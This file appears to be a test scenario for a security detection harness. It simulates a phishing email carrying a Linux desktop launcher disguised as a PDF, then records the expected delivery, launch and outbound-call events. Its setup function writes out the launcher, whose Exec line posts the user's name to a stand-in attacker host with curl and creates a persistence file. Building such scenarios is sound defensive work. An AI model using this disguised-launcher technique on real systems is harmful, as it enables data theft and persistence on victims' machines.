# It looks like a document and is a launcher.
title="Attachment agreement.pdf.desktop opened with gio launch"
what="The intern saves agreement.pdf.desktop with Thunderbird on the desktop and opens it (gio launch, the real one). Its Exec line starts a shell with a line that posts the user's name to 203.0.113.66 and leaves a script in ~/.profile.d."
host=ws3.example.org user=intern daemons="cron dovecot" syslog_format=iso

setup() {
  dovecot_config
  printf '[Desktop Entry]\nType=Application\nName=agreement.pdf\nIcon=application-pdf\nTerminal=false\nExec=sh -c "curl -s -d u=$(id -un) http://drop.example.net/a; mkdir -p $HOME/.profile.d; touch $HOME/.profile.d/a"\n' > "$base/out/agreement.pdf.desktop"
}
act() {
  display_up
  small_talk 2
  mail_in --from notary@example.com --to intern@example.org --subject "Agreement" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/agreement.pdf.desktop:application/octet-stream"
  wait_log 'from=<notary@example.com>'; wait_mail intern 1; sleep 1
  thunderbird_save intern agreement.pdf.desktop Desktop
  sleep 1
  desktop_as intern -- /usr/bin/gio launch /home/intern/Desktop/agreement.pdf.desktop; desktop_wait
  wait_file /home/intern/.profile.d/a 10
}
truth() {
  mail_step deliver 'to=<intern@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*/home/intern/Desktop/agreement.pdf.desktop' 'the client writes the launcher'
  exec_step open 'gio launch' 'it is opened'
  net_step post 'curl 203.0.113.66:80' 'its line calls out'
}
